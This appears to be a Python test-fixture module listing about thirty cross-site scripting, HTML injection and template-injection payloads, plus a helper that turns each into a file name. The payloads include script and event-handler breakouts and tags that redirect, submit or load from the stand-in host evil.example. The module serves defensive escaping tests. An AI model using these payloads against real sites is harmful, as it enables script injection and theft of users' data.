"""Texts that would run, fetch or restyle something if a page took them for more than text."""

from __future__ import annotations

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    '"><script>window.pwned=1</script>',
    "'><img src=x onerror=window.pwned=1>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "<!--><script>window.pwned=1</script>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<a href=javascript:window.pwned=1>x</a>",
    "<form action=http://evil.example><button autofocus>x",
    "<base href=http://evil.example>",
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<link rel=stylesheet href=http://evil.example>",
    "<style>@import 'http://evil.example'</style>",
    "<object data=http://evil.example></object>",
    "<embed src=http://evil.example>",
    "<video poster=http://evil.example autoplay>",
    "<div style=background:url(http://evil.example)>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<div hx-get=http://evil.example hx-trigger=load>",
    "<div hx-on:load=window.pwned=1 hx-on--load=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "{{ 7*7 }}{% raw %}{{ cycler.__init__ }}",
    "${window.pwned=1} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.pwned=1&#62;",
    "\u202e<script>window.pwned=1</script>\u2066",
    "javascript:window.pwned=1//",
)


def file_name(payload: str) -> str:
    """The payload as the name of a file, which cannot hold a slash."""
    return payload.replace("/", "\u2215") + ".py"
